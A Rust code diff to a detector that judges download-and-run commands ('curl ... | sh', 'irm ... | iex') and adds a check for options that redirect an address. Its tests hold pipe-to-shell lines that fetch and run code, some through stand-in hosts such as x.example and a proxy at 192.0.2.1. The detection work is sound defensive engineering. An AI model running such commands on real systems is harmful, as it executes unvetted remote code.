@@ -2,6 +2,7 @@
 
 use memchr::memmem;
 
+use super::holds;
 use super::validate::{Evidence, Verdict, command_end, unless};
 
 /// Each behind `https://`. What ends in a slash is a folder of the vendor's own.
@@ -58,11 +59,11 @@ const KNOWN: [&str; 50] = [
     "aspire.dev/install.ps1",
 ];
 
-/// A download that runs, from a vendor's own address and no other: low where it is read, not where an agent does it.
+/// What has an address lead elsewhere.
+const ELSEWHERE: [&[u8]; 4] = [b"--resolve", b"--connect-to", b"proxy", b"--config"];
+
+/// A download that runs, from a vendor's own address and no other.
 pub(super) fn known_installer(evidence: &Evidence<'_>) -> Verdict {
-    if evidence.is_of_call {
-        return Verdict::Silent;
-    }
     let is_end = |byte: &u8| b";|&\r\n`".contains(byte);
     let start = evidence.before.iter().rposition(is_end).map_or(0, |at| at + 1);
     let before = evidence.before.get(start..).unwrap_or_default();
@@ -72,7 +73,8 @@ pub(super) fn known_installer(evidence: &Evidence<'_>) -> Verdict {
     }
     let command = [before, evidence.matched, rest].concat();
     let mut addresses = memmem::find_iter(&command, b"://").peekable();
-    unless(addresses.peek().is_some() && addresses.all(|at| is_known(&command, at)))
+    let is_led = ELSEWHERE.iter().any(|word| holds(&command, word));
+    unless(!is_led && addresses.peek().is_some() && addresses.all(|at| is_known(&command, at)))
 }
 
 /// Whether the address whose `://` stands there is one of those.
@@ -91,12 +93,11 @@ mod tests {
     use super::*;
 
     /// The verdict on the match within the line, given its text.
-    fn judged(line: &str, matched: &str, is_of_call: bool) -> Verdict {
+    fn judged(line: &str, matched: &str) -> Verdict {
         let at = line.find(matched).unwrap();
         let (before, rest) = line.as_bytes().split_at(at);
         let (matched, after) = rest.split_at(matched.len());
-        let evidence =
-            Evidence { secret: matched, matched, before, after, is_of_call, ..Evidence::default() };
+        let evidence = Evidence { secret: matched, matched, before, after, ..Evidence::default() };
         known_installer(&evidence)
     }
 
@@ -114,8 +115,7 @@ mod tests {
             ("sh -c \"$(curl -fsSL https://get.docker.com)\"", "sh -c \"$(curl"),
             ("`irm https://claude.ai/install.ps1 | iex`", "install.ps1 | iex"),
         ] {
-            assert_eq!(judged(line, matched, false), Verdict::Fails, "{line}");
-            assert_eq!(judged(line, matched, true), Verdict::Silent, "{line}");
+            assert_eq!(judged(line, matched), Verdict::Fails, "{line}");
         }
     }
 
@@ -130,8 +130,9 @@ mod tests {
             "curl https://claude.ai/install.sh.x | sh",
             "curl https://x.example/get.docker.com | sh",
             "curl sh.rustup.rs | sh",
+            "curl --proxy 192.0.2.1:80 https://sh.rustup.rs | sh",
         ] {
-            assert_eq!(judged(line, line, false), Verdict::Silent, "{line}");
+            assert_eq!(judged(line, line), Verdict::Silent, "{line}");
         }
     }
 }
